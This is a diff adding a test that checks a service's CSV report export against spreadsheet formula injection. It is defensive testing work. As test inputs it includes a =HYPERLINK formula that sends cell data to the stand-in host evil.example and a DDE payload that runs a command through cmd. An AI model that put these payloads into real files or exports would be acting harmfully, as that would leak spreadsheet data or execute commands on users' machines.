@@ -215,3 +215,20 @@ def test_review_text_no_database_can_store_is_refused(client: TestClient, fake_i
     assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json", r.text
     assert client.get(report["links"]["self"]).json()["review"]["version"] == 0
     assert client.get(report["links"]["pdf"]).status_code == 200
+
+
+def test_csv_export_never_emits_a_formula(client: TestClient, genuine_item: SyntheticItem) -> None:
+    """Issue 19 finding 4 (OWASP CSV injection): a client_ref such as =HYPERLINK(...) came out of
+    the export as a cell a spreadsheet runs."""
+    refs = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\uff1d1+1", "plain-ref-1", "a=b"]
+    for ref in refs:
+        inspect(client, genuine_item, client_ref=ref)
+    exported = client.get("/v1/reports.csv")
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r\uff1d"], cells
+    got = {row["client_ref"] for row in rows}
+    assert got == {"'" + r for r in refs[:5]} | {"plain-ref-1", "a=b"}
+    assert all(float(row["p_counterfeit"]) >= 0 for row in rows)  # numbers stay numbers
